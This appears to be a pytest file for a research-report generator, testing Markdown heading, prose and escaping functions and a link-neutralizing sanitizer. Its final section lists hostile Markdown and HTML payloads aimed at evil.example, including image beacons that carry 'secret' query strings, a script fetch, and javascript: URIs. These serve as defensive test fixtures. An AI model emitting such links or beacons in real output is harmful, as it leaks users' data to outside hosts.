"""Markdown: headings, fences and prose as offsets, verbatim text through Markdown and back, and safe links."""

import asyncio
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from suffice import research
from suffice.prompts.planning import PlannedQuery, PlanResponse, ReflectionResponse
from suffice.prompts.writing import SynthesisResponse
from suffice.report import html, markdown
from suffice.testing import FixtureSearch, ScriptedModel
from suffice.text.citations import has_citation
from suffice.text.markdown import (
    drop_empty_headings,
    drop_needless_escapes,
    escape_markdown,
    find_headings,
    find_open_fence,
    find_prose_blocks,
    find_sections,
    iter_source_lines,
    mask_inline_code,
    mask_quote_markers,
    neutralize_links,
    split_list_items,
    strip_list_marker,
    strip_markdown,
    to_inline_code,
    unwrap_fence,
)
from suffice.types import Passage, Place

# -- headings, sections, fences ----------------------------------------------------------------------------------------

TEXT = "intro\n# Title\n\na\n## One ##\nb\n### Deep\nc\n```\n## not this\n```\n## Two *so* [3]\nd"


def test_headings_are_found_in_order():
    assert [(part.title, part.level) for part in find_headings(TEXT)] == [
        ("Title", 1),
        ("One", 2),
        ("Deep", 3),
        ("Two so", 2),
    ]


def test_a_section_ends_at_the_next_heading_of_its_level():
    one, two = find_sections(TEXT, 2)
    assert TEXT[one.start : one.end] == "## One ##\nb\n### Deep\nc\n```\n## not this\n```\n"
    assert TEXT[two.body_start : two.end] == "d"


def test_a_fence_that_is_never_closed_is_found():
    assert find_open_fence("```python\nx") == "```"
    assert find_open_fence("~~~~\n```\n~~~\n") == "~~~~"
    assert find_open_fence("```\nx\n```") == ""
    assert find_open_fence("``` not `code` ```") == ""


@given(st.text(alphabet="# a`~\n\r", max_size=60))
def test_heading_offsets_are_in_the_text_and_in_order(text):
    position = 0
    for part in find_headings(text):
        assert position <= part.start < part.body_start <= part.end <= len(text)
        assert text[part.start : part.body_start].lstrip(" ").startswith("#")
        position = part.end


@pytest.mark.parametrize(
    "markdown",
    [
        "- item\n  # In a list",
        "> # In a quote",
        "    # Indented",
        "Title\n---\n",
        "text # not a heading",
        "####### Seven",
    ],
)
def test_lines_that_are_no_headings(markdown):
    assert find_headings(markdown) == []


def test_bold_lines_count_as_headings_on_request():
    text = "**Answer**\nIt is so.\n\n**Risks:**\n- One\n- **Bold item**\n\n**A bold sentence.**"
    assert find_headings(text) == []
    assert [(part.title, part.level) for part in find_headings(text, bold_lines=True)] == [("Answer", 6), ("Risks", 6)]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("## One\n\n## Two\n\ntext", "## Two\n\ntext"),
        ("## One\n\n### Deep\n\ntext", "## One\n\n### Deep\n\ntext"),
        ("# Title\n\n## One\n\n### Deep\n\n## Two\n\ntext", "# Title\n\n## Two\n\ntext"),
        ("text\n\n## One\n", "text\n\n"),
        ("## It was built in 1887 [1]\n\n## Two\n\ntext", "## It was built in 1887 [1]\n\n## Two\n\ntext"),
        ("## Code\n\n```\n# comment\n\n\n# more\n```", "## Code\n\n```\n# comment\n\n\n# more\n```"),
    ],
    ids=["followed by its like", "over a deeper one", "several levels", "at the end", "citing", "comments in code"],
)
def test_headings_above_nothing_are_dropped(before, after):
    assert drop_empty_headings(before) == after


@pytest.mark.parametrize(
    ("text", "inside"),
    [
        ("```python\nx = 1\n```", "x = 1"),
        ("  ```\nx\n```\n", "x"),
        ('```json {"a": 1}```', '{"a": 1}'),
        ("~~~md\n# T\n~~~", "# T"),
        ("```\nnever closed", "never closed"),
        ("```md\n# T\n```python\nx\n```\ntext\n```", "# T\n```python\nx\n```\ntext"),
        ("```\nx\n```\n\nProse.", None),
        ("```python\nx\n```\ntext\n```python\ny\n```", None),
        ("Prose.", None),
    ],
)
def test_a_fence_around_the_whole_text_is_unwrapped(text, inside):
    assert unwrap_fence(text) == inside


def test_only_fences_of_the_given_languages_are_unwrapped():
    assert unwrap_fence("```Markdown\n# T\n```", ("", "markdown")) == "# T"
    assert unwrap_fence("```python\nx\n```", ("", "markdown")) is None


# -- prose -------------------------------------------------------------------------------------------------------------


def prose(text):
    return [text[start:end] for start, end in find_prose_blocks(text)]


@pytest.mark.parametrize(
    ("text", "blocks"),
    [
        ("# Title\n\nOne\ntwo.\n\nThree.", ["One\ntwo.", "Three."]),
        ("- First\n  goes on\n- [x] Second\n1. Third", ["First\n  goes on", "Second", "Third"]),
        ("• First\n• Second\n2. Third", ["First", "Second", "Third"]),
        ("> One\n> two\n\n>> Three", ["One\n> two", "Three"]),
        ("| a | b |\n|---|---|\n| x | y |\n| z | w |", ["x | y", "z | w"]),
        ("a | b\n--|--\nx | y", ["x | y"]),
        ("1. Item\n\n    Its second paragraph.", ["Item", "Its second paragraph."]),
        ("**Heading**\n\nText.\n\nUnderlined\n----------\n\nMore.", ["Text.", "More."]),
        ("Built in\n1887. Then closed.", ["Built in\n1887. Then closed."]),
        ("---\ntitle: x\n---\nText.<!-- not\nthis -->", ["Text."]),
        ("<div>Inside HTML</div>", ["<div>Inside HTML</div>"]),
        ("[1]: https://a.example\nText.", ["Text."]),
        ("> " * 150 + "deep", ["deep"]),
    ],
)
def test_prose_blocks(text, blocks):
    assert prose(text) == blocks


@pytest.mark.parametrize(
    "text",
    [
        "## Pigs fly over Vienna [1]",
        "Pigs fly over Vienna [1]\n---",
        "| Pigs fly over Vienna [1] |\n|---|\n| x |",
        "> ## Pigs fly over Vienna",
        "**Pigs fly over Vienna [1]**",
    ],
    ids=[
        "heading",
        "underlined",
        "table head",
        "quoted heading",
        "bold",
    ],
)
def test_what_cites_a_source_is_prose_wherever_it_stands(text):
    assert any("Pigs fly over Vienna" in block for block in prose(text))


def test_code_and_comments_are_no_prose():
    assert prose(
        "```python\n# Comment in five plain words.\nx = a[1]\n\nprint(x)\n```\n\n    y = 2\n\n- item\n  ```\n  z()\n  ```"
    ) == ["item"]


@pytest.mark.parametrize("heading", ["Why it stopped", "Searches that found nothing new"])
def test_what_a_report_says_about_itself_is_no_claim(heading):
    assert prose(f"Text.\n\n## {heading}\n\n- pigs over Vienna") == ["Text."]


def test_sections_that_list_sources_are_left_out():
    text = "One.\n\n## Sources\n\n[1] A book\n\n### Deeper\n\nTwo.\n\n## Notes\n\n"
    text += "Three.\n\n## See also\n\n[2] Another book\n\nSources\n---\nFour."
    assert prose(text) == ["One.", "Three."]
    assert list(iter_source_lines(text)) == ["[1] A book", "Two.", "Three.", "Four."]


@given(st.text(alphabet="aB1 .,[]|>#-*`~=\n\r\t\u2028", max_size=120))
def test_prose_blocks_are_in_order_and_do_not_overlap(text):
    found = find_prose_blocks(text)
    assert all(0 <= start < end <= len(text) for start, end in found)
    assert all(left[1] <= right[0] for left, right in pairwise(found))


# -- inline markup -----------------------------------------------------------------------------------------------------

PIECES = st.sampled_from(
    ["*", "**", "_", "__", "`", "``", "[1]", "[", "]", "(", ")", "<b>", "</b>", "&amp;", "&#35;", "&", "\\", "\\*", "|", "~~",
     "# ", "- ", "+ ", "1. ", "2) ", "> ", "!", "![x](y)", "[x](y)", "<http://a.b>", "http://a.b", "word", "lru_cache", "a*b",
     " ", ".", "é", "東京", "=", "---", "$x$", "{", "'", '"', ":"]
)  # fmt: skip
LINES = st.one_of(st.lists(PIECES, max_size=12).map("".join), st.text(max_size=60)).map(
    lambda text: " ".join(text.split())
)


def shown(markdown: str) -> str:
    """The text of the rendered page, with single spaces."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
    texts = [
        "\n" if child.type in ("softbreak", "hardbreak") else child.content
        for token in tokens
        for child in token.children or ([token] if token.content else [])
    ]
    return " ".join("".join(texts).split())


def clean(text: str) -> str:
    """The text without what CommonMark replaces anywhere."""
    return " ".join("".join(character for character in text if character.isprintable() or character == " ").split())


@given(LINES.map(clean))
@example("The `x_y` is *not* kept [1]")
@example("__init__ and _private_ names")
@example("---")
@example("===")
@example("# not a heading")
@example("1. not a list")
def test_escaped_text_is_shown_as_it_is(text: str) -> None:
    assert shown(f"- {escape_markdown(text)} [7]") == f"{text} [7]".strip()


@given(LINES.map(clean))
@example("See `beat_count` in [1].")
@example("a \\` b")
@example("Both **bold** and _thin_ ones")
def test_stripping_undoes_escaping(text: str) -> None:
    assert strip_markdown(f"{escape_markdown(text)} [7]") == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("What does __post_init__ do?", "What does `__post_init__` do?"),
        ("like chain(*iterables), but lazy", "like `chain(*iterables)`, but lazy"),
        ("merge(*iterables, key=None)", "`merge(*iterables, key=None)`"),
        ("pass *args and **kwargs.", "pass `*args` and `**kwargs`."),
        ("2 * 3 * 4 in C:\\Users [optional]", "2 * 3 * 4 in C:\\Users [optional]"),
        ("Price* in list[int], signed: ______", "Price* in list[int], signed: ______"),
        ("as shown [3] in a[1]", r"as shown \[3] in a\[1]"),
        ("[click](https://a.example)", r"\[click](https://a.example)"),
    ],
)
def test_only_what_would_render_wrongly_is_escaped(text: str, expected: str) -> None:
    assert drop_needless_escapes(escape_markdown(text)) == expected


@given(LINES.map(clean))
def test_needless_escapes_are_not_missed_when_shown(text: str) -> None:
    assert shown(f"- {drop_needless_escapes(escape_markdown(text))}") == text


@given(LINES)
def test_an_escaped_text_cites_nothing(text: str) -> None:
    assert not has_citation(escape_markdown(text))


@given(LINES.map(clean).filter(lambda text: text.strip("` ")))
@example("a = b[1] * c # `x`")
def test_inline_code_is_shown_as_it_is(text: str) -> None:
    assert shown(f"- {to_inline_code(text)} [7]") == f"{text} [7]"
    assert strip_markdown(f"{to_inline_code(text)} [7]") == text


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("The `x_y` is **not** \\*kept\\* [2].", "The x_y is not *kept*."),
        ("It is so [1][2].", "It is so."),
        ("Plain", "Plain"),
        ("snake_case_name stays", "snake_case_name stays"),
        ("*one* and _two_", "one and two"),
        ("2 * 3 * 4 = 24", "2 * 3 * 4 = 24"),
    ],
)
def test_strip_markdown(markdown: str, expected: str) -> None:
    assert strip_markdown(markdown) == expected


def test_masks_keep_every_offset():
    assert mask_inline_code("a `x.y` \\` b") == "a `xxx` \\` b"
    assert mask_quote_markers("> a\n> > b\nc") == "> a\n    b\nc"


def test_list_items():
    assert split_list_items("Intro\n- a\n  b\n2) c\n") == ["a\n  b\n", "c\n"]
    assert split_list_items("a\n\nb") == ["a", "b"]
    assert [strip_list_marker(line) for line in ("- a", " 12. b", "* - c", "-d")] == ["a", "b", "- c", "-d"]


# -- links -------------------------------------------------------------------------------------------------------------

SOURCE = "https://tea.example/assam?page=1"
EVIL = [
    "![](https://evil.example/p.png?q=secret)",
    "![alt text][pixel]\n\n[pixel]: https://evil.example/p.png",
    "[click](https://evil.example/)",
    "[click]( <https://evil.example/a b> 'title')",
    "[click][there]\n\n[there]: https://evil.example/ 'title'",
    "[there]\n\n[there]: https://evil.example/",
    "[1](https://evil.example/)",
    "[![inner](https://evil.example/a.png)](https://evil.example/)",
    "[a [nested] text](https://evil.example/)",
    "[`code`](https://evil.example/)",
    "[click](javascript:alert(1))",
    "[click](data:text/html,hello)",
    "<https://evil.example/>",
    "<mailto:thief@evil.example>",
    "<thief@evil.example>",
    "https://evil.example/?q=secret",
    "www.evil.example/collect",
    "<img src='https://evil.example/p.png'>",
    "<a href=https://evil.example/>click</a>",
    "<script>fetch('https://evil.example/')</script>",
    "<iframe src=//evil.example></iframe>",
    "[tea](https://tea.example.evil.example/assam)",
    "[tea](//evil.example/)",
    "[tea](https://tea.example/assam?page=1&stolen=secret)",
    "![tea](https://tea.example/assam?page=1)",
    "\\![x](https://evil.example/)",
]


def followed(text: str) -> set[str]:
    """Every address that a Markdown viewer would link to or fetch."""
    found = set()
    for token in MarkdownIt("commonmark").parse(text):
        for part in (token, *(token.children or ())):
            assert part.type not in ("html_block", "html_inline")
            found |= {str(part.attrGet(name)) for name in ("href", "src") if part.attrGet(name)}
    return found


@pytest.mark.parametrize("text", EVIL)
def test_a_link_to_another_address_becomes_plain_text(text):
    safe = neutralize_links(f"Tea grows in Assam [1]. {text}\n\nIt is brewed.", [SOURCE])
    assert followed(safe) <= {SOURCE}
    assert "Tea grows in Assam [1]." in safe
    assert "It is brewed." in safe
    assert "`" in safe or "https://evil.example" not in safe or "&#40;" in safe


@pytest.mark.parametrize("text", [f"See [the page]({SOURCE}) [1].", f"See <{SOURCE}>.", f"See {SOURCE}."])
def test_a_link_to_a_source_stays(text):
    assert neutralize_links(text, [SOURCE]) == text


@pytest.mark.parametrize(
    "text",
    [
        "a[0] is the first, `x[1](y)` a call [2].",
        "Use `https://example.com/` as `base`.",
        "```\n![x](y)\n```",
        "5 < 6 [1]",
    ],
)
def test_text_that_is_no_link_stays(text):
    assert neutralize_links(text, ()) == text


@pytest.mark.parametrize("text", EVIL)
def test_a_report_links_to_its_sources_only(text):
    found = Passage("a", "Tea has been grown in Assam since 1837.", "Tea", Place(SOURCE), "web")
    answer = f"Tea has been grown in Assam since 1837 [1]. {text}"
    model = ScriptedModel(
        {
            "plan": [PlanResponse((PlannedQuery("tea"),))],
            "reflect": [ReflectionResponse(True, 0.9, (), ())],
            "draft": [SynthesisResponse(answer, answer, (answer,))],
        }
    )
    report = asyncio.run(research("Since when?", search=FixtureSearch(default=[found]), model=model, review=False))
    assert followed(report.final_answer) <= {SOURCE}
    assert "](https://evil" not in markdown.render_markdown(report)
    assert "![" not in markdown.render_markdown(report)
    assert all(address == SOURCE for line in report.key_findings for address in followed(line))
    assert 'href="https://evil' not in html.render_html(report)
    assert "<img" not in html.render_html(report)


def test_an_address_in_angle_brackets_is_shown_as_it_is() -> None:
    for text in ("Ask <user@example.org> [1].", r"Ask \<user@example.org> [1]."):
        safe = neutralize_links(text, ())
        assert MarkdownIt("commonmark").render(safe) == "<p>Ask &lt;user@example.org&gt; [1].</p>\n"
